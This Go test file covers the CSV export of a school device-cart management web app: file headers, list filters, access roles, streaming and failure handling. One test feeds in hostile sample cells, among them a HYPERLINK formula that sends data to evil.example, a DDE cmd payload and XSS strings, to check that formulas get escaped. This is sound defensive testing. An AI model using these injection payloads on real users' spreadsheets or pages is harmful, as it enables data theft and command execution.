package web_test

import (
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"runtime"
	"runtime/metrics"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/cartclass/cartclass/store"
	"github.com/cartclass/cartclass/web"
	"github.com/cartclass/cartclass/web/devidp"
)

// The export's header row, as the file spells it.
const exportHeaderLine = "displayName,description,version,deviceCartIds,classroomIds,graphId,syncState,lastModified"

const bom = "\uFEFF"

// readCSV checks that body is a UTF-8 CSV file with a byte-order mark and the export's
// header, and returns its rows after the header. Every row must have the header's 8
// cells (encoding/csv refuses ragged rows).
func readCSV(t testing.TB, body string) [][]string {
	t.Helper()
	if !strings.HasPrefix(body, bom+exportHeaderLine+"\n") {
		t.Fatalf("export does not start with the byte-order mark and the header line; starts %q", body[:min(len(body), 120)])
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, bom))).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV encoding/csv reads: %v", err)
	}
	return recs[1:]
}

// exportNames is the displayName column of an export, formula prefix removed.
func exportNames(t testing.TB, body string) []string {
	t.Helper()
	var out []string
	for _, rec := range readCSV(t, body) {
		out = append(out, unescapeCell(rec[0]))
	}
	return out
}

// unescapeCell is the documented inverse of the export's formula escaping, as CSV import
// will apply it: one apostrophe is removed from the start of a cell whose next character
// is '=', '+', '-', '@', a tab, a carriage return or another apostrophe.
func unescapeCell(s string) string {
	if len(s) >= 2 && s[0] == '\'' && strings.ContainsRune("=+-@\t\r'", rune(s[1])) {
		return s[1:]
	}
	return s
}

// listNames is the display names the list page at path shows, in order.
func listNames(t testing.TB, app *testApp, path string) []string {
	t.Helper()
	r := app.get(t, path, false)
	r.wantStatus(t, http.StatusOK)
	var out []string
	r.testid("association-link").Each(func(_ int, s *goquery.Selection) { out = append(out, s.Text()) })
	return out
}

// rawDB opens the database file at path beside the store, for setting up what no handler
// makes (a synced row, a row the store cannot read).
func rawDB(t testing.TB, path string) *sql.DB {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+path+"?_pragma=busy_timeout(10000)")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

func mustExec(t testing.TB, db *sql.DB, query string, args ...any) {
	t.Helper()
	if _, err := db.Exec(query, args...); err != nil {
		t.Fatalf("%s: %v", query, err)
	}
}

// markSynced records id as held by Graph under graphID, as a completed push would.
func markSynced(t testing.TB, db *sql.DB, id int64, graphID string) {
	t.Helper()
	mustExec(t, db, "UPDATE associations SET graph_id = ?, sync_state = 'synced', synced_revision = revision WHERE id = ?", graphID, id)
	mustExec(t, db, "DELETE FROM outbox WHERE association_id = ?", id)
}

// newExportApp is the app on a database file the test can also open raw, with subject
// signed in.
func newExportApp(t testing.TB, subject string, opts ...web.Option) (*testApp, *sql.DB) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "cartclass.db")
	app := newSignedOutApp(t, path, opts...)
	app.signIn(t, subject)
	return app, rawDB(t, path)
}

func TestExportCSVFile(t *testing.T) {
	// The server's clock in a zone where the local date is not UTC's: the file is named
	// after UTC's date.
	zone := time.FixedZone("UTC+14", 14*3600)
	if time.Now().UTC().Hour() < 10 {
		zone = time.FixedZone("UTC-11", -11*3600)
	}
	app, db := newExportApp(t, devidp.SubjectAdmin, web.WithClock(func() time.Time { return time.Now().In(zone) }))
	app.clock.freeze(time.Date(2025, 3, 14, 9, 26, 1, 0, time.UTC))
	a := app.create(t, store.Fields{DisplayName: "Science block iPads", Description: "Second floor, east wing", Version: 7,
		DeviceCartIDs: []string{"C1", "C2", "C3"}, ClassroomIDs: []string{"R1", "R2"}})
	markSynced(t, db, a.ID, "8d0f6a1c-3b4e-4f5a-9c2d-1e7b6a5f4c3d")
	app.clock.freeze(time.Date(2025, 3, 14, 10, 30, 0, 500_000_000, time.FixedZone("CET", 3600)))
	app.create(t, store.Fields{DisplayName: "Music room"})

	before := time.Now().UTC().Format(time.DateOnly)
	r := app.get(t, "/associations/export.csv", false)
	after := time.Now().UTC().Format(time.DateOnly)
	r.wantStatus(t, http.StatusOK)
	if ct := r.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", ct)
	}
	cd := r.header.Get("Content-Disposition")
	if cd != `attachment; filename=cartclass-associations-`+before+`.csv` && cd != `attachment; filename=cartclass-associations-`+after+`.csv` {
		t.Errorf("Content-Disposition = %q, want an attachment named after today's UTC date (%s)", cd, after)
	}
	if local := time.Now().In(zone).Format(time.DateOnly); strings.Contains(cd, local) && local != after {
		t.Errorf("file named after the server's local date %s, not UTC's", local)
	}
	if r.header.Get("Cache-Control") != "no-store" || r.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("Cache-Control %q, X-Content-Type-Options %q; want no-store, nosniff", r.header.Get("Cache-Control"), r.header.Get("X-Content-Type-Options"))
	}

	// The file as bytes: byte-order mark, header, newest change first, one line a row.
	want := bom + exportHeaderLine + "\n" +
		"Music room,,0,,,,waiting,2025-03-14T09:30:00Z\n" +
		`Science block iPads,"Second floor, east wing",7,"C1, C2, C3","R1, R2",8d0f6a1c-3b4e-4f5a-9c2d-1e7b6a5f4c3d,synced,2025-03-14T09:26:01Z` + "\n"
	if r.body != want {
		t.Errorf("export =\n%q\nwant\n%q", r.body, want)
	}
	rows := readCSV(t, r.body)
	if len(rows) != 2 {
		t.Fatalf("%d rows, want 2", len(rows))
	}
	if got, want := rows[1], []string{"Science block iPads", "Second floor, east wing", "7", "C1, C2, C3", "R1, R2",
		"8d0f6a1c-3b4e-4f5a-9c2d-1e7b6a5f4c3d", "synced", "2025-03-14T09:26:01Z"}; !slices.Equal(got, want) {
		t.Errorf("row = %q, want %q", got, want)
	}

	// Nothing to export: the header alone, still a file.
	r = app.get(t, "/associations/export.csv?q=nothing-like-this", false)
	r.wantStatus(t, http.StatusOK)
	if r.body != bom+exportHeaderLine+"\n" {
		t.Errorf("export of no matches = %q, want the header alone", r.body)
	}
}

// The export holds the rows the list page shows (all its pages) for the same search,
// filter and sort, and the list page's Export CSV link carries them.
func TestExportFollowsTheList(t *testing.T) {
	app, db := newExportApp(t, devidp.SubjectAdmin)
	var made []store.Association
	for i, f := range []store.Fields{
		{DisplayName: "Science block iPads", DeviceCartIDs: []string{"CART-7"}},
		{DisplayName: "science lab", Description: "old carts"},
		{DisplayName: "Ärzte Zimmer", ClassroomIDs: []string{"MED-1"}},
		{DisplayName: "Music", Description: "100% pianos"},
		{DisplayName: "Lab annex", Description: "old laptops"},
		{DisplayName: "Old library", DeviceCartIDs: []string{"LIB-1"}},
		{DisplayName: "Gym"},
		{DisplayName: "Art room", Description: "line\nbreak"},
	} {
		made = append(made, app.create(t, f))
		if i%2 == 0 {
			markSynced(t, db, made[i].ID, fmt.Sprintf("gid-%d", i))
		}
	}
	for _, i := range []int{4, 5} { // Lab annex, Old library
		if _, err := app.store.DeleteAssociation(context.Background(), made[i].ID, made[i].Revision, store.Actor{Name: "X"}); err != nil {
			t.Fatal(err)
		}
	}
	// More than a page, so that the export is seen to hold every page.
	for i := range 60 {
		app.create(t, store.Fields{DisplayName: fmt.Sprintf("Spare cart %02d", i)})
	}

	for _, tc := range []struct {
		list   string
		export string // the list page's Export CSV link
		want   int    // rows
	}{
		{"/associations", "/associations/export.csv", 66},
		{"/associations?q=science", "/associations/export.csv?q=science", 2},
		{"/associations?q=sc", "/associations/export.csv?q=sc", 2},
		{"/associations?q=old", "/associations/export.csv?q=old", 1},
		{"/associations?q=%C3%A4", "/associations/export.csv?q=%C3%A4", 1},
		{"/associations?state=notsynced", "/associations/export.csv?state=notsynced", 63},
		{"/associations?state=deleted", "/associations/export.csv?state=deleted", 2},
		{"/associations?state=deleted&q=old", "/associations/export.csv?q=old&state=deleted", 2},
		{"/associations?sort=name", "/associations/export.csv?sort=name", 66},
		{"/associations?sort=-name&q=lab", "/associations/export.csv?q=lab&sort=-name", 1},
		{"/associations?sort=modified&state=notsynced&q=spare+cart", "/associations/export.csv?q=spare+cart&sort=modified&state=notsynced", 60},
		{"/associations?q=line%0Abreak", "/associations/export.csv?q=line+break", 0}, // a query is one line
		{"/associations?q=nothing-like-this", "/associations/export.csv?q=nothing-like-this", 0},
	} {
		r := app.get(t, tc.list, false)
		r.wantStatus(t, http.StatusOK)
		link := r.testid("export-csv")
		if href, _ := link.Attr("href"); link.Length() != 1 || href != tc.export || text(link) != "Export CSV" {
			t.Errorf("%s: Export CSV link %d× → %q, want %q", tc.list, link.Length(), href, tc.export)
			continue
		}
		// Every page of the list, as someone pressing Next would see it.
		var shown []string
		for page := 1; ; page++ {
			sep := "?"
			if strings.Contains(tc.list, "?") {
				sep = "&"
			}
			names := listNames(t, app, tc.list+sep+"page="+fmt.Sprint(page))
			shown = append(shown, names...)
			if len(names) < 50 {
				break
			}
		}
		e := app.get(t, tc.export, false)
		e.wantStatus(t, http.StatusOK)
		got := exportNames(t, e.body)
		if !slices.Equal(got, shown) || len(got) != tc.want {
			t.Errorf("%s: export holds %d %q, the list shows %d %q, want %d", tc.list, len(got), got, len(shown), shown, tc.want)
		}
	}

	// A search typed after the page loaded: the table fragment moves the link along.
	r := app.getTable(t, "/associations?q=science&sort=name&state=notsynced")
	r.wantStatus(t, http.StatusOK)
	link := r.doc.Find("#export-csv")
	if href, _ := link.Attr("href"); href != "/associations/export.csv?q=science&sort=name&state=notsynced" {
		t.Errorf("fragment's export link → %q", href)
	}
	if oob, _ := link.Attr("hx-swap-oob"); oob != "true" {
		t.Errorf("fragment's export link is not swapped out of band (hx-swap-oob=%q)", oob)
	}
	// Each row's syncState is the store's state string, deleted ones included.
	states := map[string]string{}
	for _, a := range made {
		cur, err := app.store.GetAssociation(context.Background(), a.ID)
		if err != nil {
			t.Fatal(err)
		}
		states[cur.DisplayName] = cur.Sync.State
	}
	for _, path := range []string{"/associations/export.csv", "/associations/export.csv?state=deleted"} {
		for _, rec := range readCSV(t, app.get(t, path, false).body) {
			if want, ok := states[rec[0]]; ok && rec[6] != want {
				t.Errorf("%s: %q has syncState %q, want the store's %q", path, rec[0], rec[6], want)
			}
		}
	}
	if states["Science block iPads"] != "synced" || states["science lab"] != "waiting" {
		t.Errorf("states %v: want both synced and waiting rows", states)
	}
}

// Cells a spreadsheet would run as formulas get a leading apostrophe; everything else
// (markup, quotes, commas, line breaks) is plain CSV that encoding/csv reads back exactly.
func TestExportNeutralisesFormulas(t *testing.T) {
	app, _ := newExportApp(t, devidp.SubjectAdmin)
	hostile := []struct {
		fields  store.Fields
		written string // the displayName cell as written
	}{
		{store.Fields{DisplayName: `=HYPERLINK("http://evil.example/?d="&A1,"Click")`, Description: "=cmd|' /C calc'!A0"}, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
		{store.Fields{DisplayName: "@SUM(A1)", Description: "@"}, "'@SUM(A1)"},
		{store.Fields{DisplayName: "+1", Version: -2, DeviceCartIDs: []string{"-CART", "=1"}, ClassroomIDs: []string{"+R1"}}, "'+1"},
		{store.Fields{DisplayName: "-2", Description: "-"}, "'-2"},
		{store.Fields{DisplayName: "\tTabbed", Description: "\t"}, "'\tTabbed"},
		{store.Fields{DisplayName: "\rCarriage", Description: "\r\rtwo"}, "'\rCarriage"},
		{store.Fields{DisplayName: "<script>alert(1)</script>", Description: `"><img src=x onerror=alert(1)>`}, "<script>alert(1)</script>"},
		{store.Fields{DisplayName: `He said "hi", then left`, Description: `"quoted"`}, `He said "hi", then left`},
		{store.Fields{DisplayName: "a, b", Description: "first line\nsecond line\n=third"}, "a, b"},
		{store.Fields{DisplayName: "'=already escaped", Description: "'-"}, "''=already escaped"},
		{store.Fields{DisplayName: "''", Description: "'"}, "'''"},
		{store.Fields{DisplayName: "'s-Hertogenbosch", Description: "x=1+1"}, "'s-Hertogenbosch"},
	}
	byName := map[string]store.Fields{}
	for _, h := range hostile {
		app.create(t, h.fields)
		byName[h.fields.DisplayName] = h.fields
	}
	r := app.get(t, "/associations/export.csv", false)
	r.wantStatus(t, http.StatusOK)
	rows := readCSV(t, r.body)
	if len(rows) != len(hostile) {
		t.Fatalf("%d rows, want %d", len(rows), len(hostile))
	}
	written := map[string]string{}
	for _, rec := range rows {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %d %q starts a formula", i, cell)
			}
		}
		name := unescapeCell(rec[0])
		f, ok := byName[name]
		if !ok {
			t.Errorf("row %q, unescaped %q, matches no association", rec, name)
			continue
		}
		written[name] = rec[0]
		got := store.Fields{DisplayName: name, Description: unescapeCell(rec[1])}
		fmt.Sscan(unescapeCell(rec[2]), &got.Version)
		if c := unescapeCell(rec[3]); c != "" {
			got.DeviceCartIDs = strings.Split(c, ", ")
		}
		if c := unescapeCell(rec[4]); c != "" {
			got.ClassroomIDs = strings.Split(c, ", ")
		}
		if !got.Equal(f) || unescapeCell(rec[2]) != fmt.Sprint(f.Version) {
			t.Errorf("%q reads back as %+v, want %+v", name, got, f)
		}
	}
	for _, h := range hostile {
		if w := written[h.fields.DisplayName]; w != h.written {
			t.Errorf("%q written as %q, want %q", h.fields.DisplayName, w, h.written)
		}
	}
	// The row with a negative version and ids that start like formulas, exactly.
	for _, rec := range rows {
		if rec[0] == "'+1" {
			if want := []string{"'+1", "", "'-2", "'-CART, =1", "'+R1"}; !slices.Equal(rec[:5], want) {
				t.Errorf("row %q, want it to start %q", rec, want)
			}
		}
	}
}

func TestExportAccess(t *testing.T) {
	// A viewer sees the link and may export.
	app, _ := newExportApp(t, devidp.SubjectViewer)
	app.create(t, store.Fields{DisplayName: "Science block iPads"})
	list := app.get(t, "/associations", false)
	if list.testid("export-csv").Length() != 1 || list.testid("new-association").Length() != 0 {
		t.Errorf("viewer's list: %d Export CSV links, %d New association buttons; want 1 and 0",
			list.testid("export-csv").Length(), list.testid("new-association").Length())
	}
	r := app.get(t, "/associations/export.csv", false)
	r.wantStatus(t, http.StatusOK)
	if got := exportNames(t, r.body); !slices.Equal(got, []string{"Science block iPads"}) {
		t.Errorf("viewer's export holds %q", got)
	}

	// Signed out: sign in first, then back to the export.
	out := newSignedOutApp(t, filepath.Join(t.TempDir(), "cartclass.db"))
	r = out.get(t, "/associations/export.csv?q=lab&state=deleted", false)
	if r.status != http.StatusSeeOther || r.header.Get("Location") != "/signin?next=%2Fassociations%2Fexport.csv%3Fq%3Dlab%26state%3Ddeleted" {
		t.Errorf("signed-out export = %d → %q, want 303 to sign-in returning to the export", r.status, r.header.Get("Location"))
	}
	if strings.Contains(r.body, exportHeaderLine) || r.header.Get("Content-Disposition") != "" {
		t.Error("signed-out visitor got the file")
	}

	// Signed in without a role: the 403 page, no file.
	nobody, _ := newExportApp(t, devidp.SubjectNobody)
	r = nobody.get(t, "/associations/export.csv", false)
	r.wantStatus(t, http.StatusForbidden)
	if strings.Contains(r.body, exportHeaderLine) || r.header.Get("Content-Disposition") != "" {
		t.Error("a person without a role got the file")
	}
}

// seedRaw inserts n associations (names "Row 00000"…, row i modified i seconds after
// 2024-09-01, so the newest is listed first) in one transaction of multi-row INSERTs; the
// triggers keep the search indexes in step.
func seedRaw(t testing.TB, db *sql.DB, n int) {
	t.Helper()
	tx, err := db.Begin()
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback()
	t0 := time.Date(2024, 9, 1, 7, 0, 0, 0, time.UTC).UnixNano()
	const perStmt = 500
	for start := 0; start < n; start += perStmt {
		var q strings.Builder
		q.WriteString(`INSERT INTO associations (display_name, description, version, device_cart_ids, classroom_ids,
			created_at, updated_at, search_text, sync_state, synced_revision) VALUES `)
		var args []any
		for i := start; i < min(start+perStmt, n); i++ {
			if i > start {
				q.WriteString(", ")
			}
			q.WriteString("(?, ?, ?, ?, ?, ?, ?, ?, ?, ?)")
			name := fmt.Sprintf("Row %05d", i)
			desc := "Laptops on the second floor"
			if i%2 == 0 {
				desc = "iPads for the whole year group"
			}
			cart, cart2, room := fmt.Sprintf("CART-%05d", i), fmt.Sprintf("CART-%05d-B", i), fmt.Sprintf("R%04d", i%3000)
			state := "synced"
			if i%100 == 0 {
				state = "waiting"
			}
			at := t0 + int64(i)*int64(time.Second)
			args = append(args, name, desc, i%5, `["`+cart+`","`+cart2+`"]`, `["`+room+`"]`, at, at,
				strings.ToLower(strings.Join([]string{name, desc, cart, cart2, room}, "\n")), state, 1)
		}
		if _, err := tx.Exec(q.String(), args...); err != nil {
			t.Fatal(err)
		}
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
}

// exportEnv is cartclass on a real HTTP server with its logs recorded, an admin signed in,
// and n associations.
func exportEnv(t *testing.T, n int) (*authEnv, *http.Client, *sql.DB) {
	t.Helper()
	e := newAuthEnv(t, nil)
	c := e.browser(t)
	if h := e.login(t, c, devidp.SubjectAdmin, "/associations"); h.status != http.StatusSeeOther {
		t.Fatalf("sign-in: %d", h.status)
	}
	db := rawDB(t, e.dbPath)
	seedRaw(t, db, n)
	return e, c, db
}

// A row the store cannot read, met after part of the file went out: the download breaks
// (no final chunk), so it cannot pass for a complete file, and the failure is logged once.
func TestExportFailingMidStreamBreaksTheDownload(t *testing.T) {
	e, c, db := exportEnv(t, 700)
	// Listed last (oldest change): some 40 KB of rows have gone out before it.
	mustExec(t, db, `UPDATE associations SET device_cart_ids = '"not a list"' WHERE display_name = 'Row 00000'`)
	res, err := c.Get(e.url + "/associations/export.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("status %d, Content-Disposition %q; want the file's headers (sent before the bad row)", res.StatusCode, res.Header.Get("Content-Disposition"))
	}
	body, err := io.ReadAll(res.Body)
	if err == nil {
		t.Fatalf("the download ended cleanly after %d bytes; want a broken transfer", len(body))
	}
	if !strings.HasPrefix(string(body), bom+exportHeaderLine) || strings.Count(string(body), "\n") < 300 {
		t.Errorf("received %d bytes (%d lines) before the break; want the header and the rows before the bad one", len(body), strings.Count(string(body), "\n"))
	}
	if got := e.logs.at(slog.LevelWarn); len(got) != 1 || got[0] != "ERROR export failed" {
		t.Errorf("logged %q, want one ERROR export failed", got)
	}
}

// A failure before anything went out is the usual error page, not a file.
func TestExportFailingAtOnceShowsTheErrorPage(t *testing.T) {
	e, c, db := exportEnv(t, 700)
	// Listed first (newest change).
	mustExec(t, db, `UPDATE associations SET device_cart_ids = '"not a list"' WHERE display_name = 'Row 00699'`)
	h := do(t, c, "GET", e.url+"/associations/export.csv", nil, nil)
	if h.status != http.StatusInternalServerError || !strings.HasPrefix(h.header.Get("Content-Type"), "text/html") || h.header.Get("Content-Disposition") != "" {
		t.Fatalf("status %d, Content-Type %q, Content-Disposition %q; want the 500 page", h.status, h.header.Get("Content-Type"), h.header.Get("Content-Disposition"))
	}
	if d := parseDoc(t, h.body); !strings.Contains(d.Text(), "Something went wrong") || strings.Contains(h.body, "not a list") {
		t.Errorf("error page does not say Something went wrong, or shows the error: %.400s", h.body)
	}
	if got := e.logs.at(slog.LevelWarn); len(got) != 1 || got[0] != "ERROR request failed" {
		t.Errorf("logged %q, want one ERROR request failed", got)
	}
}

// goneWriter is a client that goes away once the first bytes reach it.
type goneWriter struct {
	header http.Header
	cancel context.CancelFunc
	bytes  int
}

func (w *goneWriter) Header() http.Header { return w.header }
func (w *goneWriter) WriteHeader(int)     {}
func (w *goneWriter) Flush()              {}
func (w *goneWriter) Write(p []byte) (int, error) {
	w.bytes += len(p)
	w.cancel()
	return len(p), nil
}

// A client that leaves mid-download is its own business: the walk stops, the connection is
// cut, and nothing is logged above debug.
func TestExportClientGoneIsNotAnError(t *testing.T) {
	e, c, _ := exportEnv(t, 700)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	req := httptest.NewRequestWithContext(ctx, "GET", e.url+"/associations/export.csv", nil)
	req.AddCookie(e.sessionCookie(c))
	w := &goneWriter{header: http.Header{}, cancel: cancel}
	logged := e.logs.at(slog.LevelInfo)
	func() {
		defer func() {
			if v := recover(); v != http.ErrAbortHandler {
				t.Errorf("handler ended with %v, want the connection aborted (http.ErrAbortHandler)", v)
			}
		}()
		e.app.ServeHTTP(w, req)
	}()
	if w.bytes == 0 || w.bytes > 64<<10 {
		t.Errorf("%d bytes written; want the walk to stop soon after the client left", w.bytes)
	}
	if got := e.logs.at(slog.LevelInfo); !slices.Equal(got, logged) {
		t.Errorf("logged %q, want nothing above debug", got)
	}
	if !slices.Contains(e.logs.at(slog.LevelDebug), "DEBUG export abandoned by the client") {
		t.Errorf("debug log %q lacks the abandoned export", e.logs.at(slog.LevelDebug))
	}
}

// discardWriter is a client that reads the file as fast as it comes and keeps none of it.
type discardWriter struct {
	header http.Header
	status int
	bytes  int64
	lines  int
}

func (w *discardWriter) Header() http.Header    { return w.header }
func (w *discardWriter) WriteHeader(status int) { w.status = status }
func (w *discardWriter) Flush()                 {}
func (w *discardWriter) Write(p []byte) (int, error) {
	if w.status == 0 {
		w.status = http.StatusOK
	}
	w.bytes += int64(len(p))
	for _, b := range p {
		if b == '\n' {
			w.lines++
		}
	}
	return len(p), nil
}

// heapInuseNow is the Go heap in use (objects and their spans' free space: HeapInuse).
func heapInuseNow(samples []metrics.Sample) uint64 {
	metrics.Read(samples)
	return samples[0].Value.Uint64() + samples[1].Value.Uint64()
}

func heapSamples() []metrics.Sample {
	return []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}, {Name: "/memory/classes/heap/unused:bytes"}}
}

// samplePeak records the highest heapInuseNow until stop is called, which returns it.
func samplePeak() (stop func() uint64) {
	done, peakc := make(chan struct{}), make(chan uint64)
	go func() {
		s := heapSamples()
		peak := heapInuseNow(s)
		tick := time.NewTicker(200 * time.Microsecond)
		defer tick.Stop()
		for {
			select {
			case <-done:
				peakc <- max(peak, heapInuseNow(s))
				return
			case <-tick.C:
				peak = max(peak, heapInuseNow(s))
			}
		}
	}()
	return func() uint64 { close(done); return <-peakc }
}

// BenchmarkExport is the whole export (handler, store walk, CSV) of 100, 10,000 and
// 100,000 associations to a client that keeps up. peak-heap-MiB is the most Go heap in
// use during one export above what was in use before it (after a collection), garbage not
// collected yet included: streaming keeps it at the collector's pace (a few MiB), the same
// at 10,000 and 100,000 rows. (SQLite's own memory is outside the Go heap, bounded by the
// read connections' page caches.)
func BenchmarkExport(b *testing.B) {
	for _, n := range []int{100, 10_000, 100_000} {
		path := filepath.Join(b.TempDir(), "export.db")
		app := newSignedOutApp(b, path)
		start := time.Now()
		seedRaw(b, rawDB(b, path), n)
		b.Logf("seeded %d associations in %v", n, time.Since(start).Round(time.Millisecond))
		app.signIn(b, devidp.SubjectAdmin)
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			b.ReportAllocs()
			var peak uint64
			var bytes int64
			samples := heapSamples()
			for b.Loop() {
				runtime.GC()
				base := heapInuseNow(samples)
				stop := samplePeak()
				w := &discardWriter{header: http.Header{}}
				app.handler.ServeHTTP(w, app.newRequest(http.MethodGet, "/associations/export.csv", nil, nil))
				top := stop()
				if w.status != http.StatusOK || w.lines != n+1 {
					b.Fatalf("status %d, %d lines; want 200 and %d", w.status, w.lines, n+1)
				}
				if top > base {
					peak = max(peak, top-base)
				}
				bytes = w.bytes
			}
			b.SetBytes(bytes)
			b.ReportMetric(float64(peak)/(1<<20), "peak-heap-MiB")
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(n), "ns/row")
			// Holding 100,000 rows would take far more.
			if peak > 32<<20 {
				b.Errorf("peak heap %d MiB above the start: the export holds rows", peak>>20)
			}
		})
	}
}

// flushWriter records how much of the file had been written at each flush.
type flushWriter struct {
	discardWriter
	flushedAt []int64
}

func (w *flushWriter) Flush() { w.flushedAt = append(w.flushedAt, w.bytes) }

// The file goes out as it is read, flushed every few hundred rows, not at the end.
func TestExportIsStreamed(t *testing.T) {
	e, c, _ := exportEnv(t, 1000)
	req := httptest.NewRequest("GET", e.url+"/associations/export.csv", nil)
	req.AddCookie(e.sessionCookie(c))
	w := &flushWriter{discardWriter: discardWriter{header: http.Header{}}}
	e.app.ServeHTTP(w, req)
	if w.status != http.StatusOK || w.lines != 1001 {
		t.Fatalf("status %d, %d lines; want 200 and 1001", w.status, w.lines)
	}
	// 1,000 rows of some 100 bytes: flushed at least 3 times on the way, growing.
	if len(w.flushedAt) < 4 || !slices.IsSorted(w.flushedAt) || w.flushedAt[0] == 0 || w.flushedAt[0] > w.bytes/2 {
		t.Errorf("flushed at %v of %d bytes; want several flushes as the rows go out", w.flushedAt, w.bytes)
	}
	if last := w.flushedAt[len(w.flushedAt)-1]; last != w.bytes {
		t.Errorf("last flush at %d of %d bytes: the end of the file was left in a buffer", last, w.bytes)
	}
}

// flushFailWriter takes every byte but cannot flush: the client went away between two
// parts, and only the flush says so (the request's context is still alive).
type flushFailWriter struct {
	header http.Header
	bytes  int
}

func (w *flushFailWriter) Header() http.Header { return w.header }
func (w *flushFailWriter) WriteHeader(int)     {}
func (w *flushFailWriter) FlushError() error   { return syscall.EPIPE }
func (w *flushFailWriter) Write(p []byte) (int, error) {
	w.bytes += len(p)
	return len(p), nil
}

// A flush that fails reaches the export through every wrapper of the writer (the
// metrics' status recorder included): the download is cut, not ended as if complete.
func TestExportFlushErrorCutsTheDownload(t *testing.T) {
	e, c, _ := exportEnv(t, 700)
	req := httptest.NewRequest("GET", e.url+"/associations/export.csv", nil)
	req.AddCookie(e.sessionCookie(c))
	w := &flushFailWriter{header: http.Header{}}
	func() {
		defer func() {
			if v := recover(); v != http.ErrAbortHandler {
				t.Errorf("handler ended with %v, want the connection aborted (http.ErrAbortHandler)", v)
			}
		}()
		e.app.ServeHTTP(w, req)
	}()
	if !slices.Contains(e.logs.at(slog.LevelDebug), "DEBUG export abandoned by the client") {
		t.Errorf("debug log %q lacks the abandoned export", e.logs.at(slog.LevelDebug))
	}
}
